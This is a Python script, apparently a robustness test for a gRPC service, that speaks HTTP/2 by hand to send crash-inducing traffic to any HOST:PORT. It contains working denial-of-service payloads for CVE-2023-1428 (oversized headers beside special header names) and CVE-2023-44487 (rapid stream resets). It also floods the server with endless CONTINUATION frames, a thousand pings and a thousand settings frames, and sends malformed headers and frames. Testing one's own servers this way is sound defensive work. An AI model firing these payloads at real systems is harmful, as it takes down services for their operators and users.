#!/usr/bin/env python3
"""Send what has ended gRPC servers: hostile_headers.py HOST:PORT [CA_FILE].

With CA_FILE over TLS. Speaks HTTP/2 by hand, since no client library sends such things. Prints what
became of each connection; whether the server lives is for the caller to see.
"""

import contextlib
import socket
import ssl
import sys

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LONG = ("x-long", "a" * 20_000)
LONGER = ("x-long", "a" * 12_000)

# The first three are CVE-2023-1428: each with a later header that takes the sum over gRPC's bound.
ATTACKS = {
    "te that is not trailers": [("te", "x"), LONG],
    "scheme that is none": [(":scheme", "x"), LONG],
    "load balancer statistics": [("grpclb_client_stats", "x"), LONG],
    "te beside half of the bound": [("te", "x"), LONGER],
    "statistics alone": [("grpclb_client_stats", "x")],
    "negative timeout": [("grpc-timeout", "-1S")],
    "timeout of letters": [("grpc-timeout", "soon")],
    "compression that is none": [("grpc-encoding", "x" * 100)],
    "status from a client": [("grpc-status", "0"), ("grpc-message", "%ff%00")],
    "broken base64": [("grpc-trace-bin", "!!!!"), ("grpc-tags-bin", "=")],
    "two authorizations": [("authorization", "Bearer a"), ("authorization", "Bearer b")],
    "bytes that are no text": [("authorization", "Bearer \x01\x7f\xff")],
    "many headers": [(f"x-{i}", "y") for i in range(2000)],
    "empty name": [("", "x")],
    "pseudo header at the end": [("x", "y"), (":path", "/other")],
}


def integer(value, bits):
    """HPACK's integer with a prefix of `bits`."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    value -= most
    coded = bytearray([most])
    while value >= 128:
        coded.append(value & 127 | 128)
        value >>= 7
    coded.append(value)
    return bytes(coded)


def text(value):
    raw = value.encode("latin-1")
    return integer(len(raw), 7) + raw


def frame(kind, flags, stream, payload):
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def call(extra, stream=1):
    """A call of WhoAmI with `extra` headers."""
    headers = dict([(":method", "POST"), (":scheme", "http"), (":path", "/weft.v1.Weft/WhoAmI")])
    headers.update({":authority": "x", "te": "trailers", "content-type": "application/grpc"})
    for name, _ in extra:
        headers.pop(name, None)
    first = [(name, value) for name, value in extra if name == ":scheme"]
    rest = [pair for pair in extra if pair not in first]
    block = b"".join(b"\0" + text(n) + text(v) for n, v in [*first, *headers.items(), *rest])
    parts = [block[i : i + 16_000] for i in range(0, len(block), 16_000)]
    frames = frame(HEADERS, 0 if len(parts) > 1 else END_HEADERS, stream, parts[0])
    for i, part in enumerate(parts[1:], 2):
        frames += frame(CONTINUATION, END_HEADERS if i == len(parts) else 0, stream, part)
    return frames + frame(DATA, END_STREAM, stream, b"\0\0\0\0\0")


def connect(target, ca_file):
    host, port = target.rsplit(":", 1)
    plain = socket.create_connection((host, int(port)), timeout=5)
    if not ca_file:
        return plain
    context = ssl.create_default_context(cafile=ca_file)
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(plain, server_hostname=host)


def resets():
    """CVE-2023-44487: calls that are taken back as soon as they are made."""
    cancel = (8).to_bytes(4, "big")
    return b"".join(call([], i) + frame(RST_STREAM, 0, i, cancel) for i in range(1, 4001, 2))


def endless_headers():
    """Headers of one call that never end."""
    first = frame(HEADERS, 0, 1, b"\0" + text(":method") + text("POST"))
    more = b"\0" + text("x") + text("y" * 1000)
    return first + frame(CONTINUATION, 0, 1, more * 10) * 200


def attack(target, ca_file, frames):
    with contextlib.closing(connect(target, ca_file)) as connection:
        connection.settimeout(0.2)
        got = 0
        try:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frames)
            while True:
                data = connection.recv(65536)
                if not data:
                    return f"closed after {got} bytes"
                got += len(data)
        except TimeoutError:
            return f"answered {got} bytes" if got else "no answer"
        except OSError as error:
            return f"{error.strerror or error} after {got} bytes"


def main():
    target, ca_file = sys.argv[1], (sys.argv[2:] or [None])[0]
    attacks = {name: call(extra) for name, extra in ATTACKS.items()}
    attacks["a thousand pings"] = frame(PING, 0, 0, bytes(8)) * 1000
    attacks["a thousand settings"] = frame(SETTINGS, 0, 0, b"") * 1000
    attacks["rapid resets"] = resets()
    attacks["headers without end"] = endless_headers()
    attacks["a frame of no kind"] = frame(200, 255, 77, b"x" * 100)
    attacks["no HTTP/2 at all"] = b"GET / HTTP/1.1\r\n\r\n"
    for name, frames in attacks.items():
        print(f"{name}: {attack(target, ca_file, frames)}", flush=True)


main()
